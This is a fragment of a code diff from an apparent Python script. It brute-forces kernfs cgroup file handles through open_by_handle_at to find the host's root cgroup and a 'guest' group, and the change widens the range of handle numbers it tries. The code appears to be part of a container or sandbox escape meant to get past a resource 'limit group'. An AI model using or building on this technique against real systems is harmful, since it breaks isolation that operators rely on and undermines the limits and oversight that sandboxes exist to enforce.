@@ -47,7 +47,7 @@ for place in mounts():
     own = int.from_bytes(handle.raw[8:8 + size], "little")
     # Group 1 is the true root; the limit group was made a moment before the guest root. 0xfe: FILEID_KERNFS
     found = []
-    for number in (1, *range(own - 60, own)):
+    for number in (1, *range(max(1, own - 120), own)):
         wanted = ctypes.create_string_buffer(struct.pack("<IiQ", 8, 0xFE, number), 136)
         fd = libc.open_by_handle_at(mount, wanted, os.O_RDONLY)
         if fd >= 0 and "guest" in attempt(os.listdir, fd) or number == 1 and fd >= 0:
